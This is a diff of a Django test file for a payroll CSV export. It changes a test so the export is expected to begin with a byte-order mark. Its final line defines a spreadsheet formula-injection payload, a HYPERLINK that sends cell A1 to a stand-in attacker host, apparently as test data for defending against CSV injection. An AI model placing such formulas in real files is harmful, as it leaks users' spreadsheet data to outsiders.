@@ -269,12 +269,15 @@ def test_the_bulk_template_and_error_file_start_with_the_bom(geo, member_roles, 
 
 
 @pytest.mark.django_db
-def test_the_payment_provider_export_has_no_bom(approved_payroll, accountant):
-    """The openIMIS reconciliation file goes to providers' systems: byte-compatible, no BOM."""
+def test_the_payment_provider_export_starts_with_the_bom(approved_payroll, accountant):
+    """The openIMIS reconciliation file is downloaded by a person and opened in a spreadsheet before it
+    goes to the provider (whose systems read the lines from the provider API): with the BOM."""
     response = client_for(accountant).get(reverse("payments_payroll:export_csv", args=[approved_payroll.pk]))
     raw = b"".join(response.streaming_content)
 
-    assert response.status_code == 200 and raw.startswith(b"Payroll Name,")
+    assert response.status_code == 200
+    assert_bom_once(raw)
+    assert raw[len(BOM):].startswith(b"Payroll Name,")
 
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'
